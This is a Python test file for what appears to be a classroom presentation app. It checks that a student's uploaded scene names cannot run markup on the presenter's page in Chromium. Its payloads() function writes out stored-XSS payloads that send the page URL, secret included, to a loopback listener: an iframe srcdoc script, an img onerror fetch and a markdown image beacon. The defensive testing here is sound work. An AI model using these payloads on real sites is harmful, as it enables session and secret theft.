"""The stored-markup attack in a real Chromium: the presenter's page must not run it.

A student (a protocol client, everyone editing) uploads scenes whose name and
description try to send the presenter's URL, secret included, to a listener on
loopback: an ``<iframe srcdoc>`` with a script, an ``<img onerror>``, a markdown image.
The presenter's page (its secret in the websocket path) shows each name as text; no
element of the payload is made (not even a link: markdown's autolinks are split); the
listener hears nothing. The same payloads are
also chosen as a dropdown value (refused unread) and typed as a file's name.

These tests FAIL (never skip) when Chromium cannot start.
"""

from __future__ import annotations

import http.server
import json
import threading
import time
from collections.abc import Iterator
from typing import Any, ClassVar

import pytest

from app import start_app
from app.media.browser import open_page
from app.server import SCENARIO_DIR
from tests.app.app_helpers import classroom_client, wait_until

DPR = 0.5  # a coarser canvas in the same layout: these tests read the scene, not pixels


class _Listener(http.server.BaseHTTPRequestHandler):
    heard: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        type(self).heard.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[tuple[int, list[str]]]:
    """An HTTP server on loopback that records every request it gets."""
    heard: list[str] = []
    handler = type("Listener", (_Listener,), {"heard": heard})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1], heard
    server.shutdown()


def payloads(port: int) -> list[str]:
    spy = f"http://127.0.0.1:{port}"
    return [
        f"<iframe srcdoc=\"<script>parent.fetch('{spy}/iframe?'+parent.location.href)"
        '</script>"></iframe>',
        f"<img src=x onerror=\"fetch('{spy}/img?'+location.href)\">",
        f"![beacon]({spy}/markdown.png)",
    ]


def test_the_presenters_page_shows_a_students_markup_as_text(browser, listener):
    port, heard = listener
    app = start_app("01_two_convex", port=0, print_url=False, presenter=True)
    try:
        assert app.classroom is not None
        app.classroom.set_open(True)
        with (
            open_page(app, browser, url=app.presenter_url, dpr=DPR) as pres,
            classroom_client(app) as student,
        ):
            page = pres.page
            for payload in payloads(port):
                scene = json.loads(
                    (SCENARIO_DIR / "01_two_convex.json").read_text(encoding="utf-8")
                )
                scene["name"], scene["description"] = payload, payload
                student.upload(
                    "Upload a scenario (.json) or map (.zip)",
                    payload + ".json",
                    json.dumps(scene).encode(),
                )
                assert wait_until(lambda p=payload: app.controller.scene.name == p, 20)
                assert app.wait_idle(30)
                # The page shows the name, as the characters the student typed.
                page.wait_for_function(
                    "text => document.body.innerText.includes(text)",
                    arg=payload,
                    timeout=20_000,
                )
                # The same text chosen as a dropdown value: dropped at the door.
                student.set_gui(student.uuid("Scenario", "Dropdown"), payload)
            time.sleep(2.0)  # what a payload would fetch has had time to
            made = page.evaluate(
                """spy => ({
                    iframes: document.querySelectorAll('iframe').length,
                    spies: [...document.querySelectorAll('img')]
                        .filter(i => (i.getAttribute('src') || '').includes(spy)
                                     || i.getAttribute('src') === 'x').length,
                    scripts: [...document.querySelectorAll('script')]
                        .filter(s => s.textContent.includes(spy)).length,
                    links: [...document.querySelectorAll('a')]
                        .filter(a => (a.getAttribute('href') || '').includes(spy))
                        .length,
                })""",
                f"127.0.0.1:{port}",
            )
        assert made == {"iframes": 0, "spies": 0, "scripts": 0, "links": 0}
        assert heard == []
        assert app.door is not None and app.door.refused["value"] >= 3
    finally:
        app.stop()
